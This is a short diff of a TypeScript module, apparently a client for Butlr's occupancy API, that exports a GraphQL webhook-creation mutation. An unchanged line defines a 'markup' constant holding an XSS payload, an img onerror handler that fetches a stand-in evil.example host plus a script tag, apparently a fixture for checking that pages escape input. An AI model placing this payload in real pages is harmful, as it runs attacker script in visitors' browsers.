@@ -27,7 +27,8 @@ export interface ConsoleHouseOptions {
 }
 
 const occupancyTypes = ["ROOM_OCCUPANCY", "ROOM_OCCUPANCY_1MIN"];
-const createWebhooks = "mutation($input: [WebhookCreateInput!]!) { createWebhooks(input: $input) { id } }";
+/** As a client of Butlr's API makes webhooks. */
+export const createWebhooks = "mutation($input: [WebhookCreateInput!]!) { createWebhooks(input: $input) { id } }";
 /** What no page may take for more than text. */
 export const markup = `<img src=x onerror="fetch('https://evil.example')"><script>alert(1)</script>`;
 const seed = 1;
